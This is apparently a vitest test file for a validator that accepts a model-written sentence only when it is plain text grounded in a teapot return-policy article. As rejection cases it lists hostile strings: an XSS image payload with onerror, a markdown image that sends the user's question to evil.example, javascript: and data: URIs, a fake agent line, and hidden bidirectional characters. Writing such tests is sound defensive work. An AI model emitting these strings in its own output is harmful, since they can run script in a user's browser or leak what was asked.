import { expect, test } from 'vitest';
import { verifiedSentence } from './verify-sentences.ts';

const BODY = 'You can send the teapot back within 30 days. We pay the postage.';
const QUOTE = 'send the teapot back within 30 days';
const saying = (text: string) => verifiedSentence({ text, quote: QUOTE, article: 1 }, [BODY]);

test('a plain sentence on words that stand in its article is said', () => {
  expect(saying('Within 30 days it can go back.')?.text).toBe('Within 30 days it can go back.');
  expect(saying('茶壶可以在 30 天内退回。')?.text).toBe('茶壶可以在 30 天内退回。');
  expect(saying('يمكن إرجاعه خلال ٣٠ يومًا.')?.text).toBe('يمكن إرجاعه خلال ٣٠ يومًا.');
});

test.each([
  '<b>Within 30 days</b>',
  '<img src=x onerror=alert(1)>',
  '![how](https://evil.example/?q=what-was-asked)',
  '[Send it back](https://evil.example)',
  'Look at evil.com for that',
  'Write to help@evil.example',
  'javascript:alert(1)',
  'data:text/html,hello',
  'Agent Anna: I refund it now',
  '```js```',
  `Within 30 days. ${'Really. '.repeat(60)}`,
  'It can go back within 45 days.',
  'يمكن إرجاعه خلال ٤٥ يومًا.',
  '\u202e\u200b…',
])('J4 of a model nothing is said but plain words: %j', (text) => {
  expect(saying(text)).toBeUndefined();
});

test('J4 what shows nothing, or turns the line around, is taken out of what is said', () => {
  expect(saying('Within\u0000 30\u202e days\u2028it can go back.')?.text).toBe('Within 30 days it can go back.');
});
